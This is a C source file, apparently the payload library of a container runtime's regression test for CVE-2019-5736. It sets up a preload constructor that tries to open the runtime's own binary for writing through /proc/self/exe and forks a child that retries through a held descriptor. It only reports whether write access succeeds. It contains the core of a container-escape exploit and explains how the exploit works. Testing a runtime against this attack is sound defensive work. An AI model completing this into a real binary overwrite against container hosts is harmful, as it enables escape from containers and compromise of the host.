/* The payload of a malicious image, for the CVE-2019-5736 test: the image
 * names `#!/proc/self/exe` as the interpreter of its command and lists this
 * library in its /etc/ld.so.preload. If the runtime's init (or the process
 * `berth exec` starts) execs the command while /proc/self/exe is still the
 * runtime's binary, the kernel runs that binary inside the container, with
 * the container's dynamic loader, and this constructor runs in it.
 *
 * It reports what it is ("exe=PATH"), tries to open that binary for
 * writing at once, and leaves a child holding an O_PATH descriptor that
 * tries again after the runtime process has gone, as the original exploit
 * did. Reports go to stderr and, for the child, to /tmp/preload-child. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *err_name(int e)
{
	const char *n = e ? strerrorname_np(e) : "OK";
	return n ? n : "E?";
}

__attribute__((constructor)) static void payload(void)
{
	char exe[4096];
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	exe[n < 0 ? 0 : n] = 0;
	int fd = open("/proc/self/exe", O_WRONLY);
	dprintf(2, "PRELOAD exe=%s write=%s\n", exe, err_name(fd < 0 ? errno : 0));
	if (fd >= 0)
		close(fd);

	int keep = open("/proc/self/exe", O_PATH | O_CLOEXEC);
	if (keep < 0 || fork() != 0)
		return;
	setsid();
	/* Let the parent exit, then try for two seconds. */
	int e = ETXTBSY;
	for (int i = 0; i < 40 && e == ETXTBSY; i++) {
		usleep(50000);
		char p[64];
		snprintf(p, sizeof(p), "/proc/self/fd/%d", keep);
		int w = open(p, O_WRONLY);
		e = w < 0 ? errno : 0;
		if (w >= 0)
			close(w); /* proof enough; never write to the binary */
	}
	FILE *f = fopen("/tmp/preload-child", "w");
	if (f) {
		fprintf(f, "CHILD exe=%s write=%s\n", exe, err_name(e));
		fclose(f);
	}
	_exit(0);
}
